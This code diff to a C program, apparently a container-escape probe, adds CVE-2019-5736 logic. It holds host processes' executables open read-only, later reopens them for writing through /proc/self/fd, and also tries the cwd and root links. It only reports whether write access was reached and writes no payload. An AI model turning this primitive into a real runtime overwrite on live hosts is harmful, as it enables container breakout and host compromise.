@@ -37,19 +37,58 @@ static void climb(const char *path)
 		printf("escaped by %s\n", path);
 }
 
-static void attack(const char *pid)
+/* Is fd a program of the image: ours, or busybox? */
+static int is_of_image(int fd)
 {
-	static const char *const links[] = { "cwd", "root" };
+	static const char *const own[] = { "/proc/self/exe", "/bin/busybox" };
+	struct stat st, other;
+
+	if (fstat(fd, &st) < 0)
+		return 1;
+	for (size_t i = 0; i < 2; i++)
+		if (stat(own[i], &other) == 0 && other.st_dev == st.st_dev && other.st_ino == st.st_ino)
+			return 1;
+	return 0;
+}
+
+/* CVE-2019-5736: a running program cannot be opened for writing, but held open, and opened again when it has ended. */
+#define HELD 32
+static int held[HELD], n_held;
+
+static void hold_program(const char *pid)
+{
 	char path[300];
 	int fd;
 
 	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
-	fd = open(path, O_WRONLY);
-	if (fd >= 0) {
-		if (write(fd, "", 0) == 0 && reached++ < 5)
-			printf("opened %s for writing\n", path);
+	fd = n_held < HELD ? open(path, O_RDONLY) : -1;
+	if (fd >= 0 && is_of_image(fd))
 		close(fd);
+	else if (fd >= 0)
+		held[n_held++] = fd;
+}
+
+static void write_held(void)
+{
+	for (int i = 0; i < n_held; i++) {
+		char path[64];
+		int fd;
+
+		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
+		fd = open(path, O_WRONLY);
+		if (fd >= 0 && reached++ < 5)
+			printf("opened a program of the host for writing\n");
+		if (fd >= 0)
+			close(fd);
 	}
+}
+
+static void attack(const char *pid)
+{
+	static const char *const links[] = { "cwd", "root" };
+	char path[300];
+
+	hold_program(pid);
 	for (size_t i = 0; i < 2; i++) {
 		snprintf(path, sizeof(path), "/proc/%s/%s", pid, links[i]);
 		climb(path);
@@ -115,6 +154,7 @@ int main(int argc, char **argv)
 
 		for (int i = 0; i < 2000; i++)
 			seen += ambush(&last);
+		write_held();
 	} while (now_ms() < end);
 	printf("seen %lu\n", seen);
 	return reached > 0 ? 1 : 0;
